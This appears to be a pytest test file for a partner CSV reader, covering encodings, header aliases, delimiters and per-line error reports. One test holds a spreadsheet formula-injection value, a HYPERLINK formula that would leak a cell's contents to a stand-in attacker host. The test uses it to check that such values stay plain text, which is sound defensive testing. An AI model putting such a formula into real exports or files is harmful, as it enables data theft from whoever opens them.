"""Reading partner CSVs: encodings, header aliases, and every bad row named by its line."""

from __future__ import annotations

from pathlib import Path

import pytest
from partner_support import HEADER, write_csv

from schema.records import Population
from sync.errors import UserError
from sync.partners import parse_population, read_partner_csv


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Customer", Population.CUSTOMER),
        ("  CUSTOMER ", Population.CUSTOMER),
        ("Open Opportunity", Population.OPEN_OPPORTUNITY),
        ("opportunity", Population.OPEN_OPPORTUNITY),
        ("open-opportunity", Population.OPEN_OPPORTUNITY),
        ("open_opportunity", Population.OPEN_OPPORTUNITY),
        ("prospect", Population.PROSPECT),
        ("Prospects", Population.PROSPECT),
        ("vip", None),
        ("", None),
    ],
)
def test_population_values_are_normalized(raw: str, expected: Population | None) -> None:
    assert parse_population(raw) is expected


def test_header_aliases_map_without_config(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "a.csv", [["Acme Inc", "https://www.acme.com/", "Customer",
                                           "Jane Doe", "jane@partner.io", "A-1"]],
                     header=["Company Name", "Website", "Relationship", "Account Owner",
                             "Email", "ID"])
    result = read_partner_csv(path)
    assert result.problems == []
    (row,) = result.rows
    assert (row.name, row.website, row.population) == ("Acme Inc", "https://www.acme.com/",
                                                       Population.CUSTOMER)
    assert (row.owner_name, row.owner_email, row.external_id) == ("Jane Doe", "jane@partner.io",
                                                                  "A-1")
    assert (row.domain_key, row.name_key) == ("acme.com", "acme")


def test_configured_column_mapping_wins(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "a.csv", [["Acme", "acme.com", "x", "prospect"]],
                     header=["Org", "Site", "name", "Stage"])
    result = read_partner_csv(path, columns={"name": "Org", "domain": "Site",
                                             "population": "stage"})
    (row,) = result.rows
    assert (row.name, row.domain_key, row.population) == ("Acme", "acme.com",
                                                          Population.PROSPECT)


def test_a_mapped_column_missing_from_the_header_names_it(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "a.csv", [["1", "Acme", "acme.com", "customer", "", ""]])
    with pytest.raises(UserError, match=r"a\.csv: line 1: the mapped column 'Segment'"):
        read_partner_csv(path, columns={"population": "Segment"})
    with pytest.raises(UserError, match="unknown field 'colour'"):
        read_partner_csv(path, columns={"colour": "name"})


def test_missing_population_column_is_one_clear_error(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "a.csv", [["Acme", "acme.com"]], header=["name", "domain"])
    with pytest.raises(UserError, match=r"line 1: no population column .* columns\.population"):
        read_partner_csv(path)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig"])
def test_utf8_with_or_without_bom(tmp_path: Path, encoding: str) -> None:
    path = write_csv(tmp_path / "a.csv", [["1", "Müller & Söhne GmbH", "münchen.de", "customer",
                                           "", ""]], encoding=encoding)
    for given in ("utf-8-sig", "utf-8"):
        (row,) = read_partner_csv(path, encoding=given).rows
        assert row.name == "Müller & Söhne GmbH"
        assert row.domain_key == "xn--mnchen-3ya.de"
        assert row.external_id == "1"  # the BOM never sticks to the first header


def test_explicit_encoding_reads_legacy_files(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "a.csv", [["1", "Café Lumière", "", "customer", "", ""]],
                     encoding="cp1252")
    (row,) = read_partner_csv(path, encoding="cp1252").rows
    assert row.name == "Café Lumière"


def test_a_decode_error_names_the_line_and_the_fix(tmp_path: Path) -> None:
    rows = [[str(i), f"Company {i}", f"c{i}.com", "customer", "", ""] for i in range(5)]
    rows.append(["9", "Café", "", "customer", "", ""])
    path = write_csv(tmp_path / "a.csv", rows, encoding="cp1252")
    with pytest.raises(UserError, match=r"a\.csv: line 7 is not valid utf-8.*--encoding"):
        read_partner_csv(path)


def test_unknown_encoding_is_a_user_error(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "a.csv", [])
    with pytest.raises(UserError, match="unknown encoding 'klingon'"):
        read_partner_csv(path, encoding="klingon")


def test_empty_and_missing_files_are_user_errors(tmp_path: Path) -> None:
    (tmp_path / "empty.csv").write_bytes(b"")
    with pytest.raises(UserError, match="empty"):
        read_partner_csv(tmp_path / "empty.csv")
    with pytest.raises(UserError, match="cannot open"):
        read_partner_csv(tmp_path / "nope.csv")


def test_every_bad_row_is_reported_with_its_line(tmp_path: Path) -> None:
    rows = [
        ["1", "Good Co", "good.com", "customer", "Ann", "ann@p.io"],  # line 2
        ["2", "", "", "customer", "", ""],  # 3: neither name nor domain
        ["3", "Acme", "acme.com", "vip", "", ""],  # 4: unknown population
        ["4", "Beta", "beta.com", "prospect", "Bob", "bob-at-p.io"],  # 5: bad e-mail
        ["5", "Gamma", "gamma.com", "prospect"],  # 6: ragged
        ["6", "D" * 1500, "delta.com", "prospect", "", ""],  # 7: oversized
        ["1", "Epsilon", "eps.com", "prospect", "", ""],  # 8: duplicate external id
        ["7", "", "gmail.com", "prospect", "", ""],  # 9: generic domain and no name
        ["8", "Zeta", "zeta.com", "customer", "", ""],  # 10: good
    ]
    result = read_partner_csv(write_csv(tmp_path / "a.csv", rows))
    assert [r.external_id for r in result.rows] == ["1", "8"]
    found = {(p.line, p.column) for p in result.problems}
    assert found == {(3, None), (4, "population"), (5, "owner_email"), (6, None),
                     (7, "name"), (8, "external_id"), (9, None)}
    by_line = {p.line: p.describe() for p in result.problems}
    assert "repeats line 2" in by_line[8]
    assert "1500 characters" in by_line[7]
    assert "has 4 cells but the header has 6" in by_line[6]
    assert "free-mail" in by_line[9]


def test_line_numbers_count_physical_lines_in_quoted_cells(tmp_path: Path) -> None:
    text = ("name,domain,population\r\n"
            '"Acme\nMulti-line",acme.com,customer\r\n'
            "Beta,beta.com,nope\r\n")
    path = tmp_path / "a.csv"
    path.write_text(text, encoding="utf-8", newline="")
    result = read_partner_csv(path)
    assert [p.line for p in result.problems] == [4]
    assert result.rows[0].name == "Acme\nMulti-line"


def test_blank_lines_are_skipped_and_formulas_stay_plain_text(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    path = write_csv(tmp_path / "a.csv", [[], ["", "", "", "", "", ""],
                                          ["1", formula, "acme.com", "customer", "", ""]])
    (row,) = read_partner_csv(path).rows
    assert row.name == formula
    assert row.domain_key == "acme.com"


def test_header_only_file_has_no_rows(tmp_path: Path) -> None:
    result = read_partner_csv(write_csv(tmp_path / "a.csv", []))
    assert result.rows == []
    assert result.problems == []
    assert dict(result.columns) == {f: f for f in HEADER}


def test_website_is_the_fallback_when_domain_gives_no_key(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "a.csv",
                     [["Acme", "gmail.com", "https://acme.co.uk/x", "customer"]],
                     header=["name", "domain", "website", "population"])
    (row,) = read_partner_csv(path).rows
    assert row.domain_key == "acme.co.uk"


@pytest.mark.parametrize("delimiter", [";", "\t", "|"])
def test_semicolon_tab_and_pipe_files_are_recognised(tmp_path: Path, delimiter: str) -> None:
    path = tmp_path / "a.csv"
    path.write_text(delimiter.join(["name", "domain", "population"]) + "\n"
                    + delimiter.join(["Acme, Inc.", "acme.com", "customer"]) + "\n",
                    encoding="utf-8")
    (row,) = read_partner_csv(path).rows
    assert (row.name, row.domain_key) == ("Acme, Inc.", "acme.com")


@pytest.mark.parametrize("newline", ["\r\n", "\n", "\r"])
def test_any_line_ending_counts_lines_the_same(tmp_path: Path, newline: str) -> None:
    lines = ["name,domain,population", "Acme,acme.com,customer", "Beta,beta.com,gold"]
    path = tmp_path / "a.csv"
    path.write_bytes(newline.join(lines).encode())  # and no newline at the end
    result = read_partner_csv(path)
    assert [r.name for r in result.rows] == ["Acme"]
    assert [p.line for p in result.problems] == [3]


def test_utf16_files_need_their_encoding_and_nul_cells_are_rejected(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes("name,domain,population\r\nMüller,mueller.de,customer\r\n"
                     .encode("utf-16"))
    with pytest.raises(UserError, match="line 1 is not valid utf-8"):
        read_partner_csv(path)
    (row,) = read_partner_csv(path, encoding="utf-16").rows
    assert row.name == "Müller"
    path.write_bytes(b"name,domain,population\nAc\x00me,acme.com,customer\n")
    (problem,) = read_partner_csv(path).problems
    assert "NUL character" in problem.describe()


def test_an_unclosed_quote_swallowing_the_file_is_named(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes(b"name,domain,population\nA,a.com,customer\n\"B" + b"x\n" * 70_000)
    with pytest.raises(UserError, match=r"line 3: malformed CSV .* unclosed quote"):
        read_partner_csv(path)


def test_leading_blank_lines_before_the_header_are_skipped(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text("\n,,\nname,domain,population\nAcme,acme.com,customer\nB,b.com,x\n",
                    encoding="utf-8")
    result = read_partner_csv(path)
    assert [r.name for r in result.rows] == ["Acme"]
    assert [p.line for p in result.problems] == [5]
    path.write_text("\n\nname,domain\n", encoding="utf-8")
    with pytest.raises(UserError, match="line 3: no population column"):
        read_partner_csv(path)
